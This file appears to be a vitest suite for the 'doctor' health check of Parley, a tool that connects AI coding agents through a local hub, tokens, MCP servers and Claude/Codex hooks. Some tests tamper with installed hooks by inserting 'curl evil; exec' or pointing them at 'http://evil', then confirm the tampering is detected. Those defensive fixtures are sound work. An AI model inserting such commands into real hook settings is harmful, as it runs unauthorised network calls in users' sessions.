import { hash } from "node:crypto";
import { chmodSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, test } from "vitest";
import { Ground } from "../src/testing/process.ts";

interface Report {
  ok: boolean;
  checks: { name: string; state: string; message: string; advice?: string; fixed?: boolean }[];
}

const examine = async (ground: Ground, args: string[] = [], env: Record<string, string> = {}) => {
  const { code, stdout, stderr } = await ground.parley(["doctor", "--json", ...args], { env });
  expect(stderr).toBe("");
  const report: Report = JSON.parse(stdout);
  // Whoever is told that something is wrong is told what to do.
  for (const { state, advice } of report.checks) expect(state === "pass" || (advice ?? "") !== "").toBe(true);
  expect(report.ok).toBe(code === 0);
  const of = (name: string) => report.checks.find((check) => check.name === name);
  return { code, of, states: Object.fromEntries(report.checks.map(({ name, state }) => [name, state])) };
};

/** As Codex 0.166 was seen to write it once somebody has said that they trust all hooks. */
function trustInCodex(file: string, text: string): void {
  const { hooks }: { hooks: Record<string, { hooks: { command: string; timeout: number; type: string }[] }[]> } =
    JSON.parse(text);
  const states = Object.entries(hooks).flatMap(([event, groups]) => {
    const event_name = event.replace(/(?<!^)[A-Z]/g, "_$&").toLowerCase();
    return groups.flatMap((group, at) =>
      group.hooks.map(({ command, timeout, type }, index) => {
        const identity = JSON.stringify({ event_name, hooks: [{ async: false, command, timeout, type }] });
        const digest = hash("sha256", identity, "hex");
        return `[hooks.state."${file}:${event_name}:${at}:${index}"]\ntrusted_hash = "sha256:${digest}"\n`;
      }),
    );
  });
  writeFileSync(join(dirname(file), "config.toml"), ['model = "x"\n', "[hooks.state]\n", ...states].join("\n"));
}

describe("doctor", () => {
  test("finds nothing wrong where nothing is, through both eras of MCP", async () => {
    await using ground = new Ground();
    await ground.serve();
    await ground.json(["hooks", "install", "--yes"]);
    await ground.parley(["hook", "Stop"], { input: '{"session_id":"s"}', env: { PARLEY_HOOK_MS: "30000" } });
    const { code, states } = await examine(ground);
    expect(code).toBe(0);
    expect(states).toMatchObject({
      version: "pass",
      "data folder": "pass",
      "disk space": "pass",
      "write-ahead log": "pass",
      hub: "pass",
      clock: "pass",
      token: "pass",
      "MCP 2026-07-28": "pass",
      "MCP 2025-11-25": "pass",
      identities: "pass",
      hooks: "pass",
      "wake claude": "pass",
    });
  });

  test("starts no hub, and a machine without one is not ill", async () => {
    await using ground = new Ground();
    const { code, states } = await examine(ground);
    expect(code).toBe(0);
    expect(states).toMatchObject({ hub: "warn", hooks: "warn", "data folder": "pass" });
    expect(() => statSync(ground.home)).toThrow();
  });

  test("says of a folder that is none, or that cannot be made, what to do, and tries nothing in it", async () => {
    await using ground = new Ground();
    writeFileSync(ground.home, "");
    for (const [home, said] of [
      [ground.home, "is not a folder"],
      [join(ground.home, "below"), "cannot be made"],
    ] as const) {
      const { code, of, states } = await examine(ground, ["--home", home]);
      expect([code, of("data folder")]).toMatchObject([1, { state: "fail", message: expect.stringContaining(said) }]);
      expect(Object.keys(states)).toEqual(["version", "launcher", "PATH", "data folder"]);
    }
  });

  test("where no hub runs it says why the last one that a command started did not come up", async () => {
    await using ground = new Ground();
    mkdirSync(ground.home, { mode: 0o700 });
    const database = join(ground.home, "parley.db");
    writeFileSync(database, "this was written here by somebody else, and is no database at all".repeat(20));
    expect((await examine(ground)).of("hub")?.message).toBe(`No hub runs on ${ground.home}.`);
    expect((await ground.parley(["inbox"])).code).toBe(78);
    expect((await examine(ground)).of("hub")).toMatchObject({
      state: "warn",
      message: expect.stringMatching(
        /^No hub runs on .* said: The database in .* cannot be opened: file is not a database$/,
      ),
    });
    rmSync(database);
    await ground.json(["inbox"]);
    await ground.parley(["stop"]);
    expect((await examine(ground)).of("hub")?.message).toBe(`No hub runs on ${ground.home}.`);
  });

  test("fails on a data folder that others may read, and closes it when asked to", async () => {
    await using ground = new Ground();
    await ground.serve();
    chmodSync(ground.home, 0o755);
    chmodSync(join(ground.home, "admin.token"), 0o644);
    const ill = await examine(ground);
    expect(ill.code).toBe(1);
    expect(ill.of("data folder")).toMatchObject({ state: "fail" });
    expect(ill.of("data folder")?.message).toContain("admin.token");
    const mended = await examine(ground, ["--fix"]);
    expect(mended.of("data folder")).toMatchObject({ state: "pass", fixed: true });
    expect(statSync(ground.home).mode & 0o777).toBe(0o700);
    expect(statSync(join(ground.home, "admin.token")).mode & 0o777).toBe(0o600);
    expect((await examine(ground)).code).toBe(0);
  });

  test("fails on servers of agents that could not be started, or that others may change", async () => {
    await using ground = new Ground();
    mkdirSync(ground.home, { recursive: true, mode: 0o700 });
    const path = join(ground.home, "servers.json");
    const examined = async (text: string, mode = 0o600) => {
      writeFileSync(path, text);
      chmodSync(path, mode);
      return (await examine(ground)).of("servers");
    };
    const of = (mcpServers: object) => JSON.stringify({ agents: { mason: { mcpServers } } });
    expect((await examine(ground)).of("servers")).toBeUndefined();
    const fine = of({ files: { command: process.execPath }, web: { url: "http://127.0.0.1:9/mcp" } });
    expect(await examined(fine)).toMatchObject({ state: "pass", message: "2 servers of agents that the hub runs." });
    const nowhere = { files: { command: "no-such-program" }, notes: { command: process.execPath, cwd: "/nowhere" } };
    const { state, message } = (await examined(of(nowhere))) ?? {};
    expect([state, message]).toEqual([
      "fail",
      expect.stringContaining("mason, files: no-such-program does not exist."),
    ]);
    expect(message).toContain("mason, notes: Its folder /nowhere cannot be entered.");
    const programs = (program: object) => JSON.stringify({ agents: { mason: { program } } });
    expect(await examined(programs({ client: "claude", argv: [process.execPath] }))).toMatchObject({
      ...{ state: "pass", message: "0 servers and 1 program of agents that the hub runs." },
    });
    expect(await examined(programs({ argv: ["no-such-program"] }))).toMatchObject({
      ...{ state: "fail", message: expect.stringContaining("mason, program: no-such-program does not exist.") },
    });
    expect(await examined(programs({ env: { PARLEY_TOKEN: "secret" } }))).toMatchObject({
      ...{ state: "fail", message: expect.stringMatching(/^mason\.program: (?!.*secret)/) },
    });
    expect(await examined('{"agents": {"secret"')).toMatchObject({
      state: "fail",
      message: expect.stringMatching(/^It is no JSON/),
    });
    expect(await examined(fine, 0o666)).toMatchObject({
      message: expect.stringContaining("can be changed by other users"),
    });
  });

  test("fails when the hub does not answer, and when it does not know the token", async () => {
    await using ground = new Ground();
    const hub = await ground.serve();
    const stranger = await examine(ground, [], { PARLEY_URL: hub.url, PARLEY_TOKEN: `parley_${"x".repeat(43)}` });
    expect(stranger.of("token")).toMatchObject({ state: "fail" });
    await hub.kill("SIGKILL");
    const gone = await examine(ground, [], { PARLEY_URL: hub.url, PARLEY_TOKEN: `parley_${"x".repeat(43)}` });
    expect(gone.code).toBe(1);
    expect(gone.of("hub")?.message).toContain("nothing listens there");
    const left = await examine(ground);
    expect(left.of("last stop")).toMatchObject({ state: "warn" });
  });

  test("fails on hooks that call a Parley that is gone, or that are switched off", async () => {
    await using ground = new Ground();
    mkdirSync(join(ground.folder, ".claude"), { recursive: true });
    const command = "exec /gone/bin/parley hook Stop";
    const hooks = { Stop: [{ hooks: [{ type: "command", command, timeout: 10 }] }] };
    writeFileSync(join(ground.folder, ".claude", "settings.json"), JSON.stringify({ hooks, disableAllHooks: true }));
    const { code, of } = await examine(ground);
    expect(code).toBe(1);
    expect(of("hooks")?.message).toMatch(/SessionStart.* missing.*\/gone\/bin\/parley.* not there.*lets no hook run/);
  });

  const installedIn = async (ground: Ground, client: string, path: string) => {
    await ground.json(["hooks", "install", "--yes", "--client", client]);
    const file = join(ground.folder, path);
    return { text: readFileSync(file, "utf8"), file };
  };

  test("REACH-9: passes hooks only once a session has called them", async () => {
    await using ground = new Ground();
    await ground.serve();
    await installedIn(ground, "claude", ".claude/settings.json");
    const before = await examine(ground);
    for (const name of ["hooks", "wake claude"]) expect(before.of(name)).toMatchObject({ state: "warn" });
    await ground.parley(["hook", "Stop"], { input: "{}" });
    const after = await examine(ground);
    for (const name of ["hooks", "wake claude"]) expect(after.of(name)).toMatchObject({ state: "pass" });
    expect(after.of("hooks")?.message).toMatch(/last called just now\.$/);
  });

  test("a hook that somebody changed is to be taken out first: installing anew would leave it", async () => {
    await using ground = new Ground();
    const { text, file } = await installedIn(ground, "claude", ".claude/settings.json");
    writeFileSync(file, text.replace("exec ", "curl evil; exec "));
    expect((await examine(ground)).of("hooks")?.advice).toContain(`Take that hook out of ${file}, then: `);
    expect((await examine(ground)).of("wake claude")).toMatchObject({ state: "warn" });
    await ground.json(["hooks", "install", "--yes"]);
    expect(readFileSync(file, "utf8")).toContain("curl evil");
  });

  test.each([
    ["a comment", (text: string) => text.replace("{", "{ // mine"), "Expected property name"],
    ["a trailing comma", (text: string) => text.replace(/\}\s*$/, ",}"), "Expected double-quoted property name"],
    ["a hook with something before it", (text: string) => text.replace("exec ", "curl evil; exec "), "curl evil; exec"],
    [
      "a hook that asks another hub",
      (text: string) => text.replace(/hook Stop/, "hook Stop --url http://evil"),
      "Stop not as",
    ],
    [
      "a hook that never matches",
      (text: string) => text.replace('"PreCompact": [\n      {', '$&"matcher":"no",'),
      "PreCompact not as",
    ],
    [
      "a hook twice",
      (text: string) => text.replace(/("Stop": \[\s*)(\{[\s\S]*?\}\s*\]\s*\})/, "$1$2,$2"),
      "Stop not as",
    ],
    ["a timeout of nothing", (text: string) => text.replace('"timeout": 10', '"timeout": 0'), "SessionStart not as"],
  ])("REACH-9: does not pass settings with %s", async (_, change, why) => {
    await using ground = new Ground();
    const { text, file } = await installedIn(ground, "claude", ".claude/settings.json");
    expect(change(text)).not.toBe(text);
    writeFileSync(file, change(text));
    await ground.parley(["hook", "Stop"], { input: "{}" });
    expect((await examine(ground)).of("hooks")).toMatchObject({ message: expect.stringContaining(why) });
    expect((await examine(ground)).of("hooks")?.state).not.toBe("pass");
    expect((await ground.parley(["hooks", "status", "--json"])).code).toBe(1);
  });

  test("REACH-9: does not pass hooks that Codex has not been told to trust, or that changed since", async () => {
    await using ground = new Ground();
    const { text, file } = await installedIn(ground, "codex", ".codex/hooks.json");
    expect((await examine(ground)).of("hooks")).toMatchObject({
      state: "fail",
      message: expect.stringContaining("Codex does not trust SessionStart"),
      advice: expect.stringContaining("/hooks"),
    });
    trustInCodex(file, text);
    await ground.parley(["hook", "Stop", "--client", "codex"], { input: "{}" });
    expect((await ground.parley(["hooks", "status", "--json"])).code).toBe(0);
    trustInCodex(file, text.replaceAll("hook Stop", "hook Other"));
    expect((await examine(ground)).of("hooks")?.message).toContain("Codex does not trust Stop yet");
  });

  test("says it to people in lines", async () => {
    await using ground = new Ground();
    const { stdout } = await ground.parley(["doctor", "--format", "text"]);
    expect(stdout).toMatch(/^pass {2}version {2,}Parley /);
    expect(stdout).toMatch(/^warn {2}hub {2,}No hub runs on .*\n {6,}Commands start it/m);
  });
});
